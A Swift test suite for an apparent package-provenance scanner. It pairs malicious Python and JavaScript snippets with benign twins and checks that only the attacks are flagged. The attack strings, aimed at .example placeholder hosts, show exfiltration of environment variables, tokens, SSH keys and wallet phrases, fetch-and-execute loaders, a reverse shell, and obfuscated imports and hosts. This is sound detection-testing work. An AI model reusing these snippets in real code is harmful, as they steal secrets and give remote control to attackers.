import Testing

@testable import Provenance

/// An attack and its honest twin, side by side: what tells them apart is what the rules are about.
/// Every payload is harmless: hosts are of `example`, and nothing is run.
@Suite("An attack and its honest twin")
struct TwinTests {
    struct Pair: Sendable, CustomTestStringConvertible {
        let testDescription: String
        let attack: String
        let twin: String

        init(_ name: String, _ attack: String, twin: String) {
            testDescription = name
            self.attack = attack
            self.twin = twin
        }
    }

    static let python: [Pair] = [
        Pair(
            "all of the environment, sent by a method",
            """
            import os, requests
            class Client:
                def ping(self):
                    seen = {k: v for k, v in os.environ.items()}
                    requests.post("https://stats.collect.example/v1", json=seen)
            """,
            twin: """
                import os, requests
                class Client:
                    def __init__(self, url):
                        self.url = url or os.environ.get("STATS_URL")
                    def ping(self, seen):
                        requests.post(self.url, json=seen)
                """
        ),
        Pair(
            "somebody else's token",
            """
            import os, httpx
            def publish(text):
                key = os.environ.get("AWS_SECRET_ACCESS_KEY")
                httpx.post("https://api.pretty.example/log", json={"t": text, "k": key})
            """,
            twin: """
                import os, httpx
                def publish(text):
                    key = os.environ.get("PRETTY_TOKEN")
                    httpx.post("https://api.pretty.example/log", json={"t": text, "k": key})
                """
        ),
        Pair(
            "a program fetched to a passing folder",
            """
            import os, subprocess, tempfile, urllib.request
            def prepare():
                place = os.path.join(tempfile.gettempdir(), "helper")
                urllib.request.urlretrieve("https://cdn.fast.example/h", place)
                os.chmod(place, 0o755)
                subprocess.Popen([place])
            """,
            twin: """
                import hashlib, os, subprocess, tempfile, urllib.request
                def prepare(digest):
                    place = os.path.join(tempfile.gettempdir(), "helper")
                    urllib.request.urlretrieve("https://cdn.fast.example/h", place)
                    if hashlib.sha256(open(place, "rb").read()).hexdigest() != digest:
                        raise ValueError
                    os.chmod(place, 0o755)
                    subprocess.Popen([place])
                """
        ),
        Pair(
            "code from an address of its own, run when asked",
            """
            import requests
            def update():
                exec(requests.get("https://raw.patch.example/next.py").text)
            """,
            twin: """
                import requests
                def update(url):
                    return requests.get(url).json()
                def load(path):
                    exec(open(path).read())
                """
        ),
        Pair(
            "an address in numbers",
            """
            import urllib.request
            KEPT = [111, 115, 115, 119, 116, 61, 40, 40, 102, 41, 101, 41, 100]
            HOST = "".join(chr(c ^ 7) for c in KEPT)
            def ask(what):
                return urllib.request.urlopen(HOST + what).read()
            """,
            twin: """
                import urllib.request
                HOST = "https://a.b.example"
                def ask(what):
                    return urllib.request.urlopen(HOST + what).read()
                """
        ),
        Pair(
            "names in pieces",
            """
            m = __import__("sub" + "pro" + "cess")
            getattr(m, "ch" + "eck_output")(["id"])
            """,
            twin: """
                import importlib
                m = importlib.import_module("json" + ".decoder")
                getattr(m, "JSON" + "Decoder")()
                """
        ),
        Pair(
            "through another name",
            """
            import os as _o, urllib.request as _r
            run = _o.system
            fetch = _r.urlopen
            run(fetch("https://c.example/x").read().decode())
            """,
            twin: """
                import os as _o
                run = _o.system
                def clear():
                    run("cls")
                """
        ),
        Pair(
            "the phrase of a wallet",
            """
            import requests
            class Wallet:
                def unlock(self, mnemonic, path):
                    requests.post("https://node.chain.example/v", json={"m": mnemonic})
            """,
            twin: """
                import hmac, requests
                class Wallet:
                    def unlock(self, mnemonic, path):
                        seed = hmac.new(b"seed", mnemonic.encode(), "sha512").digest()
                        return seed[:32]
                    def balance(self, address):
                        return requests.get("https://node.chain.example/b/" + address).json()
                """
        ),
        Pair(
            "keys read when asked, and sent to an address of its own",
            """
            import pathlib, requests
            def backup():
                key = (pathlib.Path.home() / ".ssh" / "id_rsa").read_text()
                requests.post("https://keep.safe.example/k", data=key)
            """,
            twin: """
                import pathlib
                def load(path=None):
                    return pathlib.Path(path or pathlib.Path.home() / ".ssh" / "id_rsa").read_text()
                """
        ),
        Pair(
            "a shell that takes its orders from far",
            """
            import socket, subprocess
            def serve():
                s = socket.socket()
                s.connect(("c2.far.example", 4444))
                while True:
                    out = subprocess.getoutput(s.recv(1024).decode())
                    s.send(out.encode())
            """,
            twin: """
                import socket, subprocess
                def serve(host, port):
                    s = socket.socket()
                    s.connect((host, port))
                    s.send(subprocess.check_output(["uname", "-a"]))
                """
        ),
    ]

    static let javascript: [Pair] = [
        Pair(
            "all of the environment, sent by a method",
            """
            const axios = require('axios');
            class Logger {
              constructor(name) { this.name = name; }
              flush() { return axios.post('https://in.collect.example/v1', { ...process.env }); }
            }
            module.exports = Logger;
            """,
            twin: """
                const axios = require('axios');
                class Logger {
                  constructor(options) { this.url = options.url || process.env.LOG_URL; }
                  flush(lines) { return axios.post(this.url, { lines }); }
                }
                module.exports = Logger;
                """
        ),
        Pair(
            "code from an address of its own, run when asked",
            """
            const https = require('https');
            exports.refresh = () => https.get('https://cdn.next.example/p.js', (r) => {
              let d = '';
              r.on('data', (c) => { d += c; });
              r.on('end', () => new Function(d)());
            });
            """,
            twin: """
                const https = require('https');
                exports.refresh = (url, done) => https.get(url, (r) => {
                  let d = '';
                  r.on('data', (c) => { d += c; });
                  r.on('end', () => done(JSON.parse(d)));
                });
                exports.compile = (text) => new Function('x', 'return ' + text);
                """
        ),
        Pair(
            "through another name of require",
            """
            var r = require, e = (s) => Buffer.from(s, 'hex').toString();
            r(e('6368696c645f70726f63657373'))[e('65786563')]('id');
            """,
            twin: """
                const { createRequire } = require('module');
                const r = createRequire(__filename);
                module.exports = r('./table.json')['rows'];
                """
        ),
        Pair(
            "letters turned round",
            """
            const at = 'txt.x/elpmaxe.c//:sptth'.split('').reverse().join('');
            module.exports = () => fetch(at);
            """,
            twin: """
                const at = 'https://c.example/x.txt';
                module.exports = (s) => s.split('').reverse().join('');
                module.exports.text = () => fetch(at);
                """
        ),
        Pair(
            "somebody else's token",
            """
            exports.track = async (event) => {
              const { NPM_TOKEN } = process.env;
              const token = process.env.NPM_TOKEN;
              await fetch('https://t.metrics.example/e', { method: 'POST', body: event + token });
            };
            """,
            twin: """
                exports.track = async (event) => {
                  const token = process.env.METRICS_TOKEN;
                  const body = event + token;
                  await fetch('https://t.metrics.example/e', { method: 'POST', body });
                };
                """
        ),
        Pair(
            "a key sent through a function",
            """
            function queue(a) {
              const parts = a.toString('hex').match(/.{1,30}/g);
              fetch('https://rpc.nodes.example/q', { method: 'POST', headers: { id: parts[0] } });
            }
            class Keypair {
              static fromSecretKey(secretKey) { queue(secretKey); return new Keypair(secretKey); }
            }
            module.exports = { Keypair };
            """,
            twin: """
                class Connection {
                  constructor(url) { this.url = url; }
                  send(tx) { return fetch(this.url, { method: 'POST', body: tx }); }
                }
                class Keypair {
                  static fromSecretKey(secretKey) { return new Keypair(sign(secretKey)); }
                }
                module.exports = { Connection, Keypair };
                """
        ),
        Pair(
            "a program fetched to a passing folder",
            """
            const os = require('os'), fs = require('fs'), path = require('path');
            const { spawn } = require('child_process');
            exports.start = async () => {
              const place = path.join(os.tmpdir(), 'svc');
              const r = await fetch('https://dl.tools.example/svc');
              fs.writeFileSync(place, Buffer.from(await r.arrayBuffer()));
              fs.chmodSync(place, 0o755);
              spawn(place, [], { detached: true, stdio: 'ignore' }).unref();
            };
            """,
            twin: """
                const os = require('os'), fs = require('fs'), path = require('path');
                const { spawn } = require('child_process');
                exports.start = (program, text) => {
                  const place = path.join(os.tmpdir(), 'in.txt');
                  fs.writeFileSync(place, text);
                  return spawn(program, [place], { stdio: 'inherit' });
                };
                """
        ),
        Pair(
            "a module that is asked for later",
            """
            import('node:child_process').then(({ exec }) => {
              fetch('https://c.example/x').then((r) => r.text()).then((t) => exec(t));
            });
            """,
            twin: """
                export const run = (line) =>
                  import('node:child_process').then(({ exec }) => exec(line));
                export const text = (url) => fetch(url).then((r) => r.text());
                """
        ),
    ]

    private static func python(_ text: String) -> PackageInspection {
        KindsTests.inspect([("x/core.py", text), KindsTests.info], name: "x-1.tar.gz")
    }

    private static func node(_ text: String) -> PackageInspection {
        KindsTests.inspect(
            [("package.json", #"{"name":"x","version":"1.0.0","main":"i.js"}"#), ("i.js", text)],
            name: "x-1.0.0.tgz"
        )
    }

    @Test("in Python", arguments: python)
    func pythonPair(pair: Pair) {
        let attack = Self.python(pair.attack)
        #expect(attack.answer != .pass, "\(attack.marks)")
        let twin = Self.python(pair.twin)
        #expect(twin.answer == .pass, "\(twin.marks)")
    }

    @Test("in JavaScript", arguments: javascript)
    func javascriptPair(pair: Pair) {
        let attack = Self.node(pair.attack)
        #expect(attack.answer != .pass, "\(attack.marks)")
        let twin = Self.node(pair.twin)
        #expect(twin.answer == .pass, "\(twin.marks)")
    }
}
